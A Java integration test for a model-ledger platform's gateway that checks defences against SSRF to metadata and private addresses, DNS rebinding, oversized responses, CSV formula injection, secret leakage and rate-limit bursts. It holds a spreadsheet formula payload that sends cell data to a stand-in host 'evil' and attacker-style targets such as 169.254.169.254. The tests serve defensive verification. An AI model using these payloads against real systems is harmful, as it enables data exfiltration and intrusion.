package io.modelledger.standalone;

import com.fasterxml.jackson.databind.JsonNode;
import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.sun.net.httpserver.HttpServer;
import io.modelledger.platform.outbound.HostResolver;
import io.modelledger.platform.test.TestMongo;
import org.bson.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.context.ApplicationContextInitializer;
import org.springframework.context.ConfigurableApplicationContext;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The platform's edges toward the outside, through the gateway: a named secret goes only to its hosts;
 * targets that resolve to metadata, private or loopback addresses are refused before any connection (host
 * names are mapped by a resolver stub, so no traffic leaves 127.0.0.0/8), a second DNS answer cannot move
 * a call; responses are capped; CSV exports cannot run formulas; a retried key issuance never replays the
 * key, and no secret is stored for idempotency.
 */
class SafeEdgesIT {

    private static final String SHA = "0123456789abcdef".repeat(4);
    private static Platform platform;
    private static String database;
    private static HttpServer listener;
    private static final AtomicInteger requests = new AtomicInteger();
    private static final Map<String, AtomicInteger> resolutions = new ConcurrentHashMap<>();
    private static Http admin;
    private static Http carol;
    private static String local;

    /** Test host names mapped to the addresses an attacker would aim at; "rebind.test" answers loopback once, then metadata. */
    static InetAddress[] resolve(String host) throws UnknownHostException {
        int seen = resolutions.computeIfAbsent(host, h -> new AtomicInteger()).incrementAndGet();
        return switch (host) {
            case "metadata.test" -> new InetAddress[]{InetAddress.getByAddress(host, new byte[]{(byte) 169, (byte) 254, (byte) 169, (byte) 254})};
            case "private.test" -> new InetAddress[]{InetAddress.getByAddress(host, new byte[]{10, 1, 2, 3})};
            case "loopback.test" -> new InetAddress[]{InetAddress.getByAddress(host, new byte[]{127, 0, 0, 2})}; // not the allowed /32
            case "mapped.test" -> new InetAddress[]{InetAddress.getByName("::ffff:10.0.0.7")};
            case "rebind.test" -> new InetAddress[]{seen == 1 ? InetAddress.getByAddress(host, new byte[]{127, 0, 0, 1})
                                                              : InetAddress.getByAddress(host, new byte[]{(byte) 169, (byte) 254, (byte) 169, (byte) 254})};
            default -> InetAddress.getAllByName(host);
        };
    }

    @BeforeAll
    static void start() throws Exception {
        listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        listener.createContext("/", exchange -> {
            requests.incrementAndGet();
            exchange.getRequestBody().readAllBytes();
            byte[] answer = exchange.getRequestURI().getPath().startsWith("/big")
                    ? ("{\"output\":\"" + "x".repeat(5 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8)
                    : "{\"output\":\"yes\",\"choices\":[{\"message\":{\"content\":\"yes\"}}]}".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, answer.length);
            exchange.getResponseBody().write(answer);
            exchange.close();
        });
        listener.start();
        local = "127.0.0.1:" + listener.getAddress().getPort();
        database = "edges-" + UUID.randomUUID().toString().substring(0, 8);
        ApplicationContextInitializer<ConfigurableApplicationContext> stub =
                context -> context.getBeanFactory().registerSingleton("hostResolver", (HostResolver) SafeEdgesIT::resolve);
        platform = Platform.start(new StandaloneOptions(Path.of("target/unused"), TestMongo.uri(database), 0, Http.freePort(),
                                                        Http.freePort(), Http.freePort(), Http.freePort(), database,
                                                        Map.of("modelledger.eval.secrets.vendor", "sk-vendor-secret",
                                                               "modelledger.eval.secret-hosts.vendor", "api.vendor.test",
                                                               "modelledger.outbound.allow-internal", "127.0.0.1/32",
                                                               "modelledger.eval.poll", "200ms")), List.of(stub));
        admin = new Http(platform.gatewayUrl()).as(platform.bootstrapAdminKey().orElseThrow());
        carol = admin.as(admin.issueKey("user:carol", "contributor"));
        assertThat(carol.post("/api/registry/models", "{\"name\":\"edge\"}").status()).isEqualTo(201);
        assertThat(carol.post("/api/registry/models/edge/versions", "{\"artifactUri\":\"s3://m/1\",\"sha256\":\"" + SHA
                + "\",\"framework\":\"onnx\"}").status()).isEqualTo(201);
        assertThat(carol.post("/api/eval/suites/edge-suite/versions", "{\"metrics\":[{\"metric\":\"equals\",\"threshold\":0.5}],"
                + "\"cases\":[{\"id\":\"c1\",\"input\":\"q\",\"expected\":\"yes\"}]}").status()).isEqualTo(201);
    }

    @AfterAll
    static void stop() {
        if (platform != null) {
            platform.close();
        }
        if (listener != null) {
            listener.stop(0);
        }
    }

    private static Http.Response start(String target) {
        String body = "{\"suite\":{\"name\":\"edge-suite\"},\"subject\":{\"kind\":\"model\",\"name\":\"edge\",\"version\":1},\"target\":"
                + target + "}";
        Http.Response[] started = new Http.Response[1];
        await().atMost(Duration.ofSeconds(5)).until(() -> {
            started[0] = carol.post("/api/eval/runs", body);
            return started[0].status() != 400 || !started[0].body().toString().contains("subject.version");
        });
        return started[0];
    }

    private static String http(String url) {
        return "{\"kind\":\"http\",\"url\":\"" + url + "\",\"requestTemplate\":\"{\\\"q\\\":\\\"{{input}}\\\"}\",\"outputPointer\":\"/output\","
                + "\"maxAttempts\":1}";
    }

    private static JsonNode awaitRun(String runId) {
        await().atMost(Duration.ofSeconds(20)).until(() -> !"running".equals(carol.get("/api/eval/runs/" + runId).body().get("status").asText()));
        return carol.get("/api/eval/runs/" + runId).body();
    }

    @Test
    void aSecretGoesOnlyToTheHostsDeclaredForIt() {
        int before = requests.get();
        Http.Response refused = start("{\"kind\":\"openai\",\"baseUrl\":\"http://" + local + "/v1\",\"secret\":\"vendor\"}");
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body().get("errors").get(0).get("field").asText()).isEqualTo("target.baseUrl");
        assertThat(refused.body().get("errors").get(0).get("message").asText()).contains("secret 'vendor' may be sent to");
        assertThat(requests.get()).as("the listener received nothing").isEqualTo(before);
    }

    @Test
    void internalAddressesAreRefusedBeforeAnyConnection() {
        int before = requests.get();
        for (String host : List.of("metadata.test", "private.test", "loopback.test", "mapped.test")) {
            Http.Response refused = start(http("http://" + host + ":" + listener.getAddress().getPort() + "/predict"));
            assertThat(refused.status()).as(host).isEqualTo(400);
            assertThat(refused.body().get("errors").get(0).get("field").asText()).isEqualTo("target.url");
            assertThat(refused.body().get("errors").get(0).get("message").asText()).contains("allow-internal");
        }
        assertThat(requests.get()).as("nothing was sent").isEqualTo(before);
        // an address an operator allowed is reached
        JsonNode allowed = awaitRun(start(http("http://" + local + "/predict")).body().get("runId").asText());
        assertThat(allowed.get("casesFailed").asInt()).as(allowed.toString()).isZero();
        assertThat(requests.get()).isEqualTo(before + 1);
    }

    @Test
    void aSecondDnsAnswerCannotMoveTheCall() {
        int before = requests.get();
        // checked when the run starts (loopback, allowed), answered with the metadata address when the call connects
        Http.Response started = start(http("http://rebind.test:" + listener.getAddress().getPort() + "/predict"));
        assertThat(started.status()).as(String.valueOf(started.body())).isEqualTo(202);
        JsonNode run = awaitRun(started.body().get("runId").asText());
        JsonNode result = carol.get("/api/eval/runs/" + run.get("runId").asText() + "/results").body().get("results").get(0);
        assertThat(result.get("error").asText()).contains("169.254.169.254", "link-local");
        assertThat(requests.get()).as("the call went nowhere").isEqualTo(before);
        assertThat(resolutions.get("rebind.test").get()).as("resolved at the check and again at the connection, each checked").isGreaterThanOrEqualTo(2);
    }

    @Test
    void aHugeResponseIsCutAtTheCapAndTheCaseFailsWithTheReason() {
        JsonNode run = awaitRun(start(http("http://" + local + "/big")).body().get("runId").asText());
        JsonNode result = carol.get("/api/eval/runs/" + run.get("runId").asText() + "/results").body().get("results").get(0);
        assertThat(result.get("error").asText()).contains("larger than 1048576 bytes");
    }

    @Test
    void csvExportsCannotRunFormulas() {
        String formula = "=HYPERLINK(\"http://evil/?\"&A2,\"open\")";
        assertThat(carol.post("/api/registry/models", "{\"name\":\"csv-victim\"}", "X-ModelLedger-Reason", formula).status()).isEqualTo(201);
        Http auditor = admin.as(admin.issueKey("user:auditor", "auditor"));
        await().atMost(Duration.ofSeconds(5)).until(() -> auditor.get("/api/audit/exports.csv?subject=model:csv-victim").raw().body()
                                                                 .lines().count() == 2);
        String row = auditor.get("/api/audit/exports.csv?subject=model:csv-victim").raw().body().lines().skip(1).findFirst().orElseThrow();
        assertThat(row).contains("\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(").doesNotContain(",=HYPERLINK(");
    }

    @Test
    void aRetriedKeyIssuanceNeverReplaysTheKeyAndNoSecretIsStored() throws Exception {
        String body = "{\"name\":\"ci\",\"owner\":\"key:ci\",\"roles\":[\"viewer\"]}";
        Http.Response first = admin.post("/api/access/keys", body, "Idempotency-Key", "issue-ci-key");
        assertThat(first.status()).isEqualTo(201);
        String key = first.body().get("key").asText();
        Http.Response retried = admin.post("/api/access/keys", body, "Idempotency-Key", "issue-ci-key");
        assertThat(retried.status()).isEqualTo(409);
        assertThat(retried.raw().body()).doesNotContain(key.substring(4));
        assertThat(retried.header("Location")).isEqualTo(first.header("Location"));
        try (MongoClient client = MongoClients.create(platform.mongoUri())) {
            for (Document record : client.getDatabase(database).getCollection("registry_service_idempotency_keys").find()) {
                assertThat(record.toJson()).doesNotContain(key.substring(21));
            }
        }
    }

    @Test
    void oneCallersBurstDoesNotReachAnotherCaller() throws Exception {
        String keyA = admin.issueKey("key:burst-a", "viewer");
        Http callerB = admin.as(admin.issueKey("key:steady-b", "viewer"));
        java.net.http.HttpClient client = java.net.http.HttpClient.newBuilder()
                .executor(java.util.concurrent.Executors.newVirtualThreadPerTaskExecutor()).build();
        java.net.http.HttpRequest request = java.net.http.HttpRequest.newBuilder(java.net.URI.create(platform.gatewayUrl() + "/api/registry/models/edge"))
                .header("Authorization", "Bearer " + keyA).timeout(Duration.ofSeconds(30)).build();
        java.util.concurrent.CountDownLatch go = new java.util.concurrent.CountDownLatch(1);
        List<java.util.concurrent.CompletableFuture<Integer>> burst = new java.util.ArrayList<>();
        for (int i = 0; i < 300; i++) {
            burst.add(java.util.concurrent.CompletableFuture.supplyAsync(() -> {
                try {
                    go.await();
                    return client.send(request, java.net.http.HttpResponse.BodyHandlers.discarding()).statusCode();
                } catch (Exception e) {
                    return -1;
                }
            }, java.util.concurrent.Executors.newVirtualThreadPerTaskExecutor()));
        }
        long started = System.nanoTime();
        go.countDown();
        List<Integer> steady = new java.util.ArrayList<>();
        while (!burst.stream().allMatch(java.util.concurrent.CompletableFuture::isDone)) {
            steady.add(callerB.get("/api/registry/models/edge").status());
        }
        double seconds = (System.nanoTime() - started) / 1e9;
        for (int i = 0; i < 5; i++) {
            steady.add(callerB.get("/api/registry/models/edge").status());
        }
        List<Integer> statuses = burst.stream().map(java.util.concurrent.CompletableFuture::join).toList();
        assertThat(statuses).as("A sees only success, rate limiting or back-pressure").allMatch(s -> s == 200 || s == 429 || s == 503);
        long admitted = statuses.stream().filter(s -> s == 200).count();
        assertThat(admitted).as("at most burst + refill (%.2f s)", seconds).isLessThanOrEqualTo(100 + (long) Math.ceil(50 * seconds) + 1);
        assertThat(steady).as("every one of B's calls during and after A's burst").isNotEmpty().allMatch(s -> s == 200);
    }
}
